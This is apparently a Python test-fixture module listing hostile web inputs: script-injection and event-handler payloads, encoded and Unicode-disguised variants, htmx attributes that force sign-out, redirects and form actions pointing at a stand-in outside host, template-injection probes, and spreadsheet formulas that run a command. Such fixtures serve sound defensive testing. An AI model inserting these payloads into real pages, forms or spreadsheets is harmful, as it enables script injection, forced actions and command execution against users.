"""What people write to break a page: markup, handlers, addresses that run, htmx attributes, template and
spreadsheet formulas, quotes and comments that try to get out of where they stand."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) '",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x',
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    '\\"-alert(1)-\\"',
    "';alert(1)//",
    "</script>'\";--><img/src/onerror=alert(1)>",
)
DISGUISED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "a\u200b<b onclick=alert(1)>x</b>",
    "http://127.0.0.1/\"onmouseover=\"alert(1)",
    "http://127.0.0.1/x'onclick=alert(1)//",
)  # fmt: skip
PAGE_CHANGERS = (
    '<div hx-get="/sign-out" hx-trigger="load">x</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div hx-vals="js:{a:alert(1)}" hx-trigger=load hx-post=/sign-out>',
    '<meta http-equiv=refresh content="0;url=//elsewhere.example.org">',
    "<base href=//elsewhere.example.org/>",
    "<form action=//elsewhere.example.org><input type=submit>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//elsewhere.example.org/x.css>",
)
FORMULAS = (
    "{{7*7}}", "{{config}}", "${7*7}", "<%= 7*7 %>", "{% debug %}", "#{7*7}",
    '=HYPERLINK("http://elsewhere.example.org","x")', "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd", "+1+cmd",
    "-2+3+cmd",
)  # fmt: skip
ALL = (*SCRIPTS, *DISGUISED, *PAGE_CHANGERS, *FORMULAS)
